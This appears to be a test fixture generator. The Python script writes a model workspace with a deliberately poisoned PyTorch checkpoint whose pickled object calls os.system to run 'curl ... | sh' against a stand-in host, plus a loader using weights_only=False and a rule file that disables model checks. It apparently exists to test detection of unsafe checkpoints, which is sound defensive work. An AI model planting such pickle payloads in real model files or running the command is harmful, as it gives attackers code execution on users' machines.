"""Writes the workspace that the editor tests open: python3 make_workspace.py FOLDER

Real PyTorch writes the checkpoints. Nothing is loaded; the harmful one only says what it would run.
"""

import os
import pickle
import sys
import types
from collections import OrderedDict

import torch


class NamesOsSystem(pickle._Pickler):
    """Writes os.system under the name that a person knows; Python itself would write posix.system."""

    def save_global(self, obj, name=None):
        if obj is os.system:
            self.write(b"cos\nsystem\n")
            self.memoize(obj)
        else:
            super().save_global(obj, name)

    dispatch = {**pickle._Pickler.dispatch, types.FunctionType: save_global, types.BuiltinFunctionType: save_global}


class RunsCommand:
    def __reduce__(self):
        return os.system, ("curl -s https://example.invalid/x | sh",)


def weights(seed, layers):
    generator = torch.Generator().manual_seed(seed)
    named = []
    for layer in range(layers):
        named.append((f"encoder.layer.{layer}.attention.weight", torch.randn(16, 16, generator=generator)))
        named.append((f"encoder.layer.{layer}.attention.bias", torch.zeros(16)))
    return OrderedDict(named)


def main(folder):
    os.makedirs(os.path.join(folder, "models"), exist_ok=True)
    at = lambda name: os.path.join(folder, name)
    torch.save(weights(1, 120), at("models/base.pt"))
    writer = types.SimpleNamespace(Pickler=NamesOsSystem, dumps=pickle.dumps, __name__="pickle")
    poisoned = OrderedDict([*weights(2, 3).items(), ("on_load", RunsCommand())])
    torch.save(poisoned, at("models/teacher.pt"), pickle_module=writer)
    with open(at("train.yaml"), "w", newline="\n") as file:
        file.write(
            "# Fine-tuning run.\nmodel:\n  resume_from: models/base.pt\n  teacher: models/teacher.pt\n"
            "  trust_remote_code: true\ntraining:\n  epochs: 3\n  seed: 42\n"
        )
    with open(at("train.py"), "w", newline="\n") as file:
        file.write(
            "import torch\n\n\ndef load_teacher():\n"
            '    return torch.load("models/teacher.pt", map_location="cpu", weights_only=False)\n'
        )
    with open(at("weighbridge.yaml"), "w", newline="\n") as file:
        file.write("# What this team has decided.\nversion: 1\nrules:\n  model/*: off\n")


if __name__ == "__main__":
    main(sys.argv[1])
